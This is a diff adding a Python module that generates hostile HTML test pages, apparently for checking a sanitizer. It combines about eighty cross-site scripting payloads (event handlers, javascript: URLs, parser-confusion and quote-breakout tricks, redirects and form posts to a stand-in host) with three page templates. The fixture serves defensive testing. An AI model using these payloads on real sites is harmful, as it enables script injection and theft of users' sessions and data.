@@ -1,0 +1,108 @@
+"""Pages that try to run, load, send or hide something, put together from a table of ways and a table of places."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+ADDRESS = "https://elsewhere.example/x"
+"""Where every page tries to send a browser."""
+
+_WAYS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC='{a}.js'></SCRIPT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<script>//</script >alert(1)<script",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>click</text></a></svg>",
+    "<svg><foreignObject><img src='{a}.png'></foreignObject></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math href='javascript:alert(1)'>click</math>",
+    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='{a}.png' srcset='{a}.png 2x' alt='A vial'>",
+    "<img alt='\"><script>alert(1)</script>'>",
+    "<IMG SRC=javascript:alert(1)>",
+    "<picture><source srcset='{a}.webp'><img src='{a}.png'></picture>",
+    "<input onfocus=alert(1) autofocus>",
+    "<input type=image src='{a}.png'>",
+    "<button onclick=alert(1)>press</button>",
+    "<select onfocus=alert(1) autofocus><option>one</select>",
+    "<textarea onfocus=alert(1) autofocus></textarea><script>alert(1)</script>",
+    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
+    "<details open ontoggle=alert(1)><summary>more</summary>text</details>",
+    "<a href='javascript:alert(1)'>click</a>",
+    "<a href='java&#10;script:alert(1)'>click</a>",
+    "<a href=' &#1;javascript:alert(1)'>click</a>",
+    "<a href='JaVaScRiPt&colon;alert(1)'>click</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
+    "<a href='vbscript:msgbox(1)'>click</a>",
+    "<a href='blob:{a}'>click</a>",
+    "<a href='https://good.example/' ping='{a}'>click</a>",
+    "<a href='{a}' target=_blank onclick=alert(1)>click</a>",
+    "<a href=\"https://good.example/' onmouseover='alert(1)\">click</a>",
+    "<a href='https://good.example/\"><script>alert(1)</script>'>click</a>",
+    "<iframe src='{a}'></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<iframe><script>alert(1)</script></iframe>",
+    "<frameset><frame src='{a}'></frameset>",
+    "<object data='{a}'><param name=x value='{a}'>fallback</object>",
+    "<embed src='{a}'>",
+    "<applet code='{a}'></applet>",
+    "<video src='{a}.mp4' poster='{a}.png' autoplay onerror=alert(1)><source src='{a}.webm'></video>",
+    "<audio src='{a}.mp3' autoplay onerror=alert(1)></audio>",
+    "<track src='{a}.vtt'>",
+    "<link rel=stylesheet href='{a}.css'>",
+    "<link rel=preload as=image href='{a}.png'>",
+    "<link rel=dns-prefetch href='{a}'>",
+    "<style>@import '{a}.css'; body {{ background: url({a}.png) }}</style>",
+    "<style>@font-face {{ font-family: x; src: url({a}.woff) }} * {{ font-family: x }}</style>",
+    "<p style='background: url({a}.png)'>text</p>",
+    "<p style='behavior: url({a}.htc)'>text</p>",
+    "<body background='{a}.png' onload=alert(1)>",
+    "<table background='{a}.png'><tr><td background='{a}.png'>cell</table>",
+    "<meta http-equiv=refresh content='0; url={a}'>",
+    "<meta http-equiv=refresh content='0; url=javascript:alert(1)'>",
+    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
+    "<base href='javascript:alert(1)//'><a href='x'>click</a>",
+    "<base href='{a}/'><img src='x.png'>",
+    "<form action='{a}' method=post><input name=x value=y><button>send</button></form>",
+    "<form><button formaction='javascript:alert(1)'>send</button></form>",
+    "<isindex action='javascript:alert(1)' type=image>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<noembed><img src=x onerror=alert(1)></noembed>",
+    "<noframes><script>alert(1)</script></noframes>",
+    "<xmp><script>alert(1)</script></xmp><img src=x onerror=alert(1)>",
+    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
+    "<template><script>alert(1)</script><img src='{a}.png'></template>",
+    "<title></title><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml-stylesheet href='{a}.xsl'?><p>text</p>",
+    "<custom-element onclick=alert(1) is=x>text</custom-element>",
+    "<p onmouseover=alert(1) onanimationstart=alert(1)>text</p>",
+    "<marquee onstart=alert(1)>text</marquee>",
+    "<dialog open onclose=alert(1)>text</dialog>",
+    "<p id=main name=main contenteditable onblur=alert(1)>text</p>",
+    "<p lang='en\" onclick=\"alert(1)'>text</p>",
+    "<td colspan='9\" onclick=\"alert(1)'>text</td>",
+    "<ol start='1\" onclick=\"alert(1)'><li value='1;alert(1)'>text</ol>",
+    "<time datetime='\"><script>alert(1)</script>'>then</time>",
+    "<abbr title='\"><img src=x onerror=alert(1)>'>FDA</abbr>",
+    "<plaintext><script>alert(1)</script>",
+)  # fmt: skip
+_PLACES = (
+    "<!doctype html><html lang=en><head><title>Page</title></head><body><main><p>Before.</p>{way}<p>After.</p></main></body></html>",
+    "<!doctype html><html><head>{way}</head><body><table><tr><td><p>Before.</p>{way}</td></tr></table><p>After.</p></body></html>",
+    "<html><body><ul><li>Before.{way}</ul><p>After.</p><svg><desc>{way}</desc></svg><math><mtext>{way}</mtext></math>",
+)
+
+
+def hostile_pages() -> Iterator[bytes]:
+    """255 pages, always the same."""
+    for place in _PLACES:
+        for way in _WAYS:
+            yield place.replace("{way}", way.format(a=ADDRESS)).encode()
